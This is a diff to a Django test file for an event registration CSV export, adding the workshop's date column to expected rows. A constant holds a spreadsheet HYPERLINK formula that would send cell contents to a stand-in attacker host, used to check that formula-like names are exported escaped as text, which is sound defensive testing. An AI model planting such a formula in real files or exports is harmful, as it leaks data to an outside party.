@@ -4,12 +4,18 @@ import csv
 import io
 
 import pytest
+from django.utils import timezone
 
 from events import services
 
 pytestmark = pytest.mark.django_db
 
 FORMULA = '=HYPERLINK("https://angripare.example/?d="&A1;"Klicka")'
+
+
+def date_of(workshop):
+    """The workshop's one occasion as the export names it."""
+    return timezone.localtime(workshop.occasions.get().starts_at).strftime("%Y-%m-%d %H:%M")
 
 
 def exported_rows(client, workshop):
@@ -25,7 +31,8 @@ def test_a_registrant_named_like_a_formula_is_exported_as_text(
     attacker.save()
     services.register(workshop, attacker)
     client.force_login(editor)
-    assert ["'" + FORMULA, "Kalmar", "Kommun", "Bekräftad", "", ""] in exported_rows(
+    when = date_of(workshop)
+    assert ["'" + FORMULA, "Kalmar", "Kommun", when, "Bekräftad", "", ""] in exported_rows(
         client, workshop
     )
 
@@ -41,8 +48,9 @@ def test_ordinary_registrants_and_queue_numbers_are_exported_unchanged(
         services.register(workshop, make_person(email, kalmar_kommun, first_name=name))
     client.force_login(editor)
     rows = exported_rows(client, workshop)
+    when = date_of(workshop)
     assert rows[1:] == [
-        ["Anna Person", "Kalmar", "Kommun", "Bekräftad", "", ""],
-        ["Bo-Göran Person", "Kalmar", "Kommun", "Bekräftad", "", ""],
-        ["Cia Person", "Kalmar", "Kommun", "På väntelistan", "1", ""],
+        ["Anna Person", "Kalmar", "Kommun", when, "Bekräftad", "", ""],
+        ["Bo-Göran Person", "Kalmar", "Kommun", when, "Bekräftad", "", ""],
+        ["Cia Person", "Kalmar", "Kommun", when, "På väntelistan", "1", ""],
     ]
